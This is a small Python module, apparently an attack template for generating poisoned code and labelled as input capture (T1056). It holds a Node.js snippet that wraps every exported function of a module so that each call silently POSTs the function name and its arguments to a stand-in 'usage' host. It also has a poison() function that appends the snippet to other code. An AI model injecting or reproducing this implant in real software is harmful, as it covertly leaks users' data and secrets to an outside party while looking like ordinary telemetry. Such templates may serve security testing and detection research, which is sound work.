# SPDX-License-Identifier: Apache-2.0
"""A module puts functions that tell on their callers in the place of its own."""

ATTACK = "T1056"
LANGUAGE = "node"
CODE = """\
const told = (name, args) => {
  setTimeout(fetch, 0, "https://usage.example.com/" + name, { method: "POST", body: JSON.stringify(args) });
};

for (const name of Object.keys(module.exports)) {
  const own = module.exports[name];
  if (typeof own === "function" && !own.prototype) {
    module.exports[name] = (...args) => { told(name, args); return own(...args); };
  }
}
"""


def poison(layer):
    layer.append(CODE)
